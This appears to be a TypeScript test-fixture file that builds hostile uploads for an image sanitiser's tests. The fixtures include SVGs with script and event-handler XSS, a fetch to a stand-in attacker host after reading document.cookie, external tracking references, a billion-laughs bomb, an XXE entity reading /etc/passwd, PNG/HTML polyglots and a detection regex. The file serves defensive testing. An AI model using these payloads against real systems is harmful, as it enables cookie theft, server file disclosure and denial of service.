import { deflateSync } from 'node:zlib';
import { PNG_SIGNATURE, makePng, pngChunk } from './images';

/**
 * Hostile uploads: files crafted to run script, fetch from elsewhere, expand without bound or
 * pass for something they are not. Each is small; what it claims to be is the attack.
 */

/**
 * A well-formed PNG (valid chunk CRCs) whose header claims `width`×`height` pixels, with only a
 * few bytes of image data: a decoder trusting the header would allocate width×height×3 bytes.
 */
export function pngClaiming(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width >>> 0, 0);
  header.writeUInt32BE(height >>> 0, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, deflate, no filter method, no interlace
  // The first row (a filter byte and black pixels), compressed: a real bomb would be a long run of zeros.
  const data = deflateSync(Buffer.alloc(1 + Math.min(width, 1024) * 3));
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', header), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))]);
}

const svg = (body: string, rootAttributes = '') =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="512" height="512" viewBox="0 0 512 512"${rootAttributes}>\n` +
      `  <rect width="512" height="512" fill="#1f5fd1"/>\n${body}\n</svg>\n`,
  );

/** SVGs the sanitiser may clean (then nothing active may remain) or refuse. */
export const HOSTILE_SVGS: { name: string; bytes: Buffer }[] = [
  { name: 'script.svg', bytes: svg('  <script>alert(document.cookie)</script>\n  <script type="application/ecmascript"><![CDATA[fetch("http://evil.example/steal")]]></script>') },
  { name: 'onload.svg', bytes: svg('  <circle cx="5" cy="5" r="4" onclick="alert(2)" ONMOUSEOVER="alert(3)"/>', ' onload="alert(1)"') },
  {
    name: 'foreign-object.svg',
    bytes: svg(
      '  <foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><iframe src="javascript:alert(2)"></iframe><img src="x" onerror="alert(3)"/></body></foreignObject>',
    ),
  },
  {
    name: 'javascript-href.svg',
    bytes: svg(
      '  <a href="javascript:alert(1)"><circle cx="50" cy="50" r="40"/></a>\n' +
        '  <use xlink:href="java&#x09;script:alert(2)"/>\n' +
        '  <image href=" JAVASCRIPT:alert(3)" width="10" height="10"/>\n' +
        '  <animate attributeName="href" to="javascript:alert(4)"/>\n' +
        '  <set attributeName="onmouseover" to="alert(5)"/>',
    ),
  },
  {
    name: 'external-href.svg',
    bytes: svg(
      '  <image href="http://evil.example/track.png" width="10" height="10"/>\n' +
        '  <image xlink:href="https://evil.example/track2.png" width="10" height="10"/>\n' +
        '  <use href="http://evil.example/sprite.svg#icon"/>\n' +
        '  <rect width="10" height="10" style="fill: url(http://evil.example/paint)"/>\n' +
        '  <rect width="10" height="10" fill="url(https://evil.example/p#x)"/>\n' +
        '  <filter id="f"><feImage href="http://evil.example/fe.png"/></filter>\n' +
        '  <style>@import url(http://evil.example/x.css);</style>',
    ),
  },
];

/** Active content that must not survive in a stored SVG. */
export const ACTIVE_SVG_CONTENT = /<script|<foreignObject|<iframe|<style|<animate|<set\b|<feImage|\son[a-z]+\s*=|javascript:|evil\.example|https?:\/\/(?!www\.w3\.org\/)/i;

/** Billion laughs: nine levels of entities, each ten of the one below (10^9 "lol"s from 1 KB). */
export const BILLION_LAUGHS_SVG = Buffer.from(
  `<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
${Array.from({ length: 8 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n')}
  <!ENTITY lol9 "${'&lol8;'.repeat(10)}">
]>
<svg xmlns="http://www.w3.org/2000/svg" width="512" height="512"><text>&lol9;</text></svg>
`,
);

/** XXE: an external entity that would read a file of the server. */
export const XXE_SVG = Buffer.from(
  `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="512" height="512"><text>&xxe;</text></svg>
`,
);

/** A PNG signature and then HTML: sniffers that look further than the signature see a page. */
export const PNG_HTML_POLYGLOT = Buffer.concat([PNG_SIGNATURE, Buffer.from('<html><script>alert(1)</script></html>')]);

/** A real, decodable PNG with a page appended after its IEND chunk. */
export const VALID_PNG_HTML_POLYGLOT = Buffer.concat([makePng(64, 64, [10, 20, 30]), Buffer.from('<html><body><script>alert(1)</script></body></html>')]);

/** A Windows executable's header, named as a PNG. */
export const RENAMED_EXECUTABLE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00', 'latin1'), Buffer.alloc(496)]);
